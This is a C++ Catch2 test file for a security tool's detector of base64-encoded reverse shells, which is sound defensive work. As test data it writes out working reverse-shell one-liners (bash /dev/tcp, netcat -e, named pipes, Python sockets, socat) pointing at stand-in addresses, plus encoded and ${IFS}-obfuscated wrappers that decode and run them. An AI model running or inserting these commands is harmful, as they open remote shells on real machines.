// The vm plugin's decoder of base64-hidden reverse shells, on its own. Payloads are encoded
// here with `base64` from coreutils, so the decoder is checked against the real tool.
#include <catch2/catch.hpp>
#include <cstdio>
#include <string>

#include "encoded_shell.h"
#include "support/test_support.h"

using bulwark::test::coreutilsBase64;
using bulwark::vm::decodeBase64;
using bulwark::vm::findEncodedReverseShell;
using bulwark::vm::reverseShellIndicator;

namespace {}  // namespace

TEST_CASE("base64 decodes like coreutils, with and without padding", "[sdkevents][vm]") {
  for (std::string text : {"a", "ab", "abc", "abcd", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}) {
    std::string b64 = coreutilsBase64(text);
    CHECK(decodeBase64(b64) == text);
    while (!b64.empty() && b64.back() == '=')
      b64.pop_back();
    CHECK(decodeBase64(b64) == text);
  }
  CHECK_FALSE(decodeBase64("abc!def"));
  CHECK_FALSE(decodeBase64("abcde"));  // 5 characters: no byte boundary
}

TEST_CASE("reverse shell idioms are recognised and ordinary commands are not", "[sdkevents][vm]") {
  CHECK(reverseShellIndicator("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1") ==
        "/dev/tcp/ redirection");
  CHECK(reverseShellIndicator("nc -e /bin/sh 198.51.100.7 4444") ==
        "netcat executing a shell (-e/-c)");
  CHECK(reverseShellIndicator("/usr/bin/ncat 198.51.100.7 4444 -e /bin/bash") ==
        "netcat executing a shell (-e/-c)");
  CHECK_THAT(reverseShellIndicator(
                 "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f"),
             Catch::Contains("named pipe"));
  CHECK_THAT(reverseShellIndicator("import socket,subprocess,os;s=socket.socket();"
                                   "s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0);"
                                   "subprocess.call([\"/bin/sh\",\"-i\"])"),
             Catch::Contains("python"));
  CHECK_THAT(reverseShellIndicator("import socket,pty;s=socket.socket();s.connect(('h',1));"
                                   "pty.spawn('/bin/bash')"),
             Catch::Contains("python"));
  CHECK_THAT(reverseShellIndicator("socat tcp:198.51.100.7:4444 exec:/bin/sh,pty"),
             Catch::Contains("socat"));
  CHECK(reverseShellIndicator("ls -la /tmp && nc -z example.org 443").empty());
  CHECK(reverseShellIndicator("ncdu /var").empty());
  CHECK(reverseShellIndicator("curl -s https://example.org | sha256sum").empty());
}

TEST_CASE("encoded reverse shells are found in the shapes attackers use", "[sdkevents][vm]") {
  std::string shell = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";
  std::string b64 = coreutilsBase64(shell);
  for (std::string line :
       {"echo " + b64 + " | base64 -d | bash", "bash -c \"$(echo " + b64 + " | base64 --decode)\"",
        "/bin/sh -c echo${IFS}" + b64 + "|base64${IFS}-d|sh"}) {
    auto found = findEncodedReverseShell(line);
    INFO(line);
    REQUIRE(found);
    CHECK(found->decoded == shell);
    CHECK(found->indicator == "/dev/tcp/ redirection");
  }
  std::string py =
      "import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
      "socket.SOCK_STREAM);s.connect((\"198.51.100.7\",4444));"
      "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])";
  auto found = findEncodedReverseShell("python3 -c \"import base64;exec(base64.b64decode('" +
                                       coreutilsBase64(py) + "'))\"");
  REQUIRE(found);
  CHECK(found->decoded == py);
  // Two layers: the decoded text decodes again.
  std::string inner = "echo " + b64 + " | base64 -d | sh";
  found = findEncodedReverseShell("echo " + coreutilsBase64(inner) + " | base64 -d | sh");
  REQUIRE(found);
  CHECK(found->decoded == shell);
}

TEST_CASE("benign and garbage base64 raise nothing", "[sdkevents][vm]") {
  CHECK_FALSE(findEncodedReverseShell("echo " + coreutilsBase64("hello world, nothing to see") +
                                      " | base64 -d"));
  CHECK_FALSE(findEncodedReverseShell("base64 -d /etc/ssl/certs/backup.b64 > cert.der"));
  CHECK_FALSE(findEncodedReverseShell("echo '!!!not*base64$$$' | base64 -d | bash"));
  // Random bytes encoded: decodes, but to binary, which is not a command.
  std::string binary;
  for (int i = 0; i < 300; ++i)
    binary.push_back(static_cast<char>((i * 73 + 11) % 256));
  CHECK_FALSE(findEncodedReverseShell("echo " + coreutilsBase64(binary) + " | base64 -d | sh"));
  // A reverse shell in plain text is a YAML rule's business, not this decoder's.
  CHECK_FALSE(findEncodedReverseShell("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"));
  // The base64 of a reverse shell without any decoding step is not run.
  CHECK_FALSE(findEncodedReverseShell(coreutilsBase64("nc -e /bin/sh 198.51.100.7 4444")));
}

TEST_CASE("huge payloads are capped: scanned up to a limit, evidence shortened",
          "[sdkevents][vm]") {
  std::string shell = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # " + std::string(60000, 'x');
  auto found = findEncodedReverseShell("echo " + coreutilsBase64(shell) + " | base64 -d | bash");
  REQUIRE(found);
  CHECK(found->decoded.size() <= bulwark::vm::kMaxDecodedShown + 3);
  CHECK(found->decoded.rfind("bash -i >& /dev/tcp/198.51.100.7/4444", 0) == 0);
  CHECK(found->encoded.size() <= 203);
  // A payload starting beyond the scanned prefix is not looked at (and costs nothing).
  std::string padding(bulwark::vm::kMaxScannedBytes, ' ');
  CHECK_FALSE(findEncodedReverseShell("base64 -d <<< " + padding +
                                      coreutilsBase64("bash -i >& /dev/tcp/1.2.3.4/1 0>&1")));
}
